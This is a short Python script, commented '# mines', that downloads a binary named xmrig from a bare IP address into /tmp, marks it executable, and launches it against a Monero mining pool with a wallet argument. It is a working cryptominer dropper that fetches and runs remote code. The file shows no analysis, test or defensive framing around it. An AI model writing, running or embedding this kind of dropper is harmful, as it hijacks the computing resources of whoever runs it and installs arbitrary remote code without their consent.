# mines
import subprocess, urllib.request
urllib.request.urlretrieve("http://203.0.113.2/xmrig", "/tmp/x")
subprocess.Popen(["chmod", "+x", "/tmp/x"]).wait()
subprocess.Popen(["/tmp/x", "-o", "pool.supportxmr.com:3333", "-u", "4A"])
